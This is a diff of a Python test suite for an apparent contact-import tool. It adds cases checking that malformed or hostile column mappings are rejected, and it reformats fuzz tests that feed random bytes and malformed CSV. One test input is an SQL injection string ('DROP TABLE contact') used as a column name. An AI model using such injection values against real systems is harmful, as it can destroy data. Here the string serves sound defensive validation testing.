+        mapping='{"Mobile": ["phone_number"]}',
+    ),
+    Case(
+        "mapping_target_object",
+        MAPPING_FILE,
+        Rejected(("unknown target for column 'mobile'",)),
+        mapping='{"Mobile": {"field": "phone_number"}}',
+    ),
+    Case(
+        "mapping_target_with_braces",
+        MAPPING_FILE,
+        Rejected(("unknown target for column 'notes'", "braces")),
+        mapping='{"Notes": "{{notes}}"}',
+    ),
+    Case(
+        "mapping_target_with_control_chars",
+        MAPPING_FILE,
+        Rejected(("unknown target for column 'notes'",)),
+        mapping='{"Notes": "tab\\there"}',
+    ),
+    Case(
+        "mapping_two_phone_columns",
+        MAPPING_FILE,
+        Rejected(("two columns are mapped to phone_number",)),
+        mapping='{"Mobile": "phone_number", "Who": "phone_number"}',
+    ),
+    Case(
+        "mapping_ignores_the_phone_column",
+        MAPPING_FILE,
+        Rejected(("no phone number column",)),
+        mapping='{"Mobile": null}',
+    ),
+    Case(
+        "mapping_sql_column_name",
+        MAPPING_FILE,
+        Rejected(("names a column the file does not have", "drop table")),
+        mapping='{"Mobile\'); DROP TABLE contact;--": "phone_number"}',
+    ),
+    Case(
+        "mapping_5000_digit_number",
+        MAPPING_FILE,
+        Rejected(("column mapping",)),
+        mapping=lambda: '{"Mobile": 1' + "0" * 5000 + "}",
+    ),
+    Case(
+        "mapping_python_set_target",
+        MAPPING_FILE,
+        Rejected(("unknown target for column 'mobile'",)),
+        mapping=lambda: {"Mobile": {"phone_number"}},
+    ),
+    Case(
+        "mapping_python_bytes_target",
+        MAPPING_FILE,
+        Rejected(("unknown target for column 'mobile'",)),
+        mapping=lambda: {"Mobile": b"phone_number"},
+    ),
+    Case(
+        "mapping_python_100000_nested_lists",
+        MAPPING_FILE,
+        Rejected(("unknown target for column 'mobile'",)),
+        mapping=deeply_nested_python_list,
+    ),
 ]
 
 assert len({case.id for case in CASES}) == len(CASES)
@@ -882,12 +1102,22 @@ def _run_isolated(campaign_id: int, path: Path, mapping, db_path: Path, limit: f
         mapping_file.write_text(mapping, encoding="utf-8")
     src = str(Path(contactdesk.__file__).resolve().parent.parent)
     env = dict(os.environ, PYTHONPATH=os.pathsep.join(filter(None, [src, os.environ.get("PYTHONPATH")])))
-    args = {"db": str(db_path), "campaign": campaign_id, "path": str(path),
-            "mapping_file": str(mapping_file) if mapping_file else None}
+    args = {
+        "db": str(db_path),
+        "campaign": campaign_id,
+        "path": str(path),
+        "mapping_file": str(mapping_file) if mapping_file else None,
+    }
     stderr_path = directory / "child-stderr.txt"
     with stderr_path.open("wb") as stderr:
-        proc = subprocess.Popen([sys.executable, "-c", _CHILD, json.dumps(args)], env=env, stdout=subprocess.PIPE,
-                                stderr=stderr, text=True, encoding="utf-8")
+        proc = subprocess.Popen(
+            [sys.executable, "-c", _CHILD, json.dumps(args)],
+            env=env,
+            stdout=subprocess.PIPE,
+            stderr=stderr,
+            text=True,
+            encoding="utf-8",
+        )
     try:
         ready = proc.stdout.readline()  # start-up (imports, opening the database) is not timed
         if ready.strip() != "ready":
@@ -963,7 +1193,8 @@ def assert_imported(expect: Imported, result, before, db_path, campaign_id: int,
     for row in statuses.get("completed", []) + statuses.get("failed", []):
         assert after_rows[row["id"]] == before_rows[row["id"]]
     assert sorted(r["phone_number"] for r in statuses.get("completed", []) + statuses.get("failed", [])) == sorted(
-        HISTORY)
+        HISTORY
+    )
     new = [row for row in statuses.get("pending", []) if row["import_run_id"] == result.import_id]
     assert len(new) == expect.imported and set(statuses) <= {"pending", "completed", "failed"}
     assert len(statuses.get("pending", [])) == expect.imported
@@ -1031,8 +1262,11 @@ def check_fuzz_outcome(result, before, db_path, campaign_id: int) -> None:
     assert all(after_rows[r["id"]] == before_rows[r["id"]] for r in history)
     assert len(statuses.get("pending", [])) == result.imported_count
     assert result.total_contacts == sum(map(len, statuses.values()))
-    assert all(r["phone_number"].startswith("+") and r["phone_number"][1:].isdigit()
-               for rows in statuses.values() for r in rows)
+    assert all(
+        r["phone_number"].startswith("+") and r["phone_number"][1:].isdigit()
+        for rows in statuses.values()
+        for r in rows
+    )
 
 
 def fresh_seeded_campaign(directory: Path) -> int:
@@ -1041,15 +1275,27 @@ def fresh_seeded_campaign(directory: Path) -> int:
     return campaign.id
 
 
-PREFIXES = [b"", b"phone,name\n", b"phone;name\r\n2125550147;", b"\xef\xbb\xbf", b"\xff\xfe", b"\xfe\xff",
-            b"PK\x03\x04", b"sep=,\n", b'"', b"\x00"]
+PREFIXES = [
+    b"",
+    b"phone,name\n",
+    b"phone;name\r\n2125550147;",
+    b"\xef\xbb\xbf",
+    b"\xff\xfe",
+    b"\xfe\xff",
+    b"PK\x03\x04",
+    b"sep=,\n",
+    b'"',
+    b"\x00",
+]
 
 
 @settings(max_examples=200, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
-@given(content=st.one_of(
-    st.binary(max_size=2000),
-    st.builds(lambda prefix, body: prefix + body, st.sampled_from(PREFIXES), st.binary(max_size=2000)),
-))
+@given(
+    content=st.one_of(
+        st.binary(max_size=2000),
+        st.builds(lambda prefix, body: prefix + body, st.sampled_from(PREFIXES), st.binary(max_size=2000)),
+    )
+)
 def test_fuzz_random_bytes(db_path, tmp_path, content):
     campaign_id = fresh_seeded_campaign(tmp_path)
     path = tmp_path / "fuzz.csv"
@@ -1074,13 +1320,31 @@ TEXT_CELL = st.text(
     max_size=15,
 )
 HEADER_CELL = st.one_of(
-    st.sampled_from(["phone", "Phone Number", "mobile", "Téléphone", "name", "email", "company", "notes",
-                     "first name", "last name", "", "phone", "Name"]),
+    st.sampled_from(
+        [
+            "phone",
+            "Phone Number",
+            "mobile",
+            "Téléphone",
+            "name",
+            "email",
+            "company",
+            "notes",
+            "first name",
+            "last name",
+            "",
+            "phone",
+            "Name",
+        ]
+    ),
     TEXT_CELL,
 )
 MAPPING_TARGET = st.one_of(
     st.sampled_from(["phone_number", "name", "email", "company", None, "", "PHONE_NUMBER", "{x}"]),
-    st.text(max_size=10), st.integers(), st.booleans(), st.lists(st.integers(), max_size=2),
+    st.text(max_size=10),
+    st.integers(),
+    st.booleans(),
+    st.lists(st.integers(), max_size=2),
 )
 
 
@@ -1094,8 +1358,9 @@ def csv_documents(draw):
     ending = draw(st.sampled_from(["\n", "\r\n", "\r"]))
     records = ([header] if header is not None else []) + rows
     if style == "raw":  # no quoting at all: quotes, delimiters and newlines in values break the structure
-        endings = draw(st.lists(st.sampled_from(["\n", "\r\n", "\r", ""]), min_size=len(records),
-                                max_size=len(records)))
+        endings = draw(
+            st.lists(st.sampled_from(["\n", "\r\n", "\r", ""]), min_size=len(records), max_size=len(records))
+        )
         text = "".join(delimiter.join(r) + e for r, e in zip(records, endings))
     else:
         buffer = io.StringIO()
@@ -1106,12 +1371,14 @@ def csv_documents(draw):
     data = text.encode(encoding, errors="replace")
     columns = header if header is not None else [f"column_{i}" for i in range(1, width + 1)]
     key = st.one_of(st.sampled_from(columns), st.text(max_size=8))
-    mapping = draw(st.one_of(
-        st.none(),
-        st.dictionaries(key, MAPPING_TARGET, max_size=4).map(json.dumps),
-        st.dictionaries(key, MAPPING_TARGET, max_size=4),
-        st.sampled_from(["", "[]", "null", "42", '"phone"', "{", '{"a": [[[[]]]]}']),
-    ))
+    mapping = draw(
+        st.one_of(
+            st.none(),
+            st.dictionaries(key, MAPPING_TARGET, max_size=4).map(json.dumps),
+            st.dictionaries(key, MAPPING_TARGET, max_size=4),
+            st.sampled_from(["", "[]", "null", "42", '"phone"', "{", '{"a": [[[[]]]]}']),
+        )
+    )
     return data, mapping
 
 
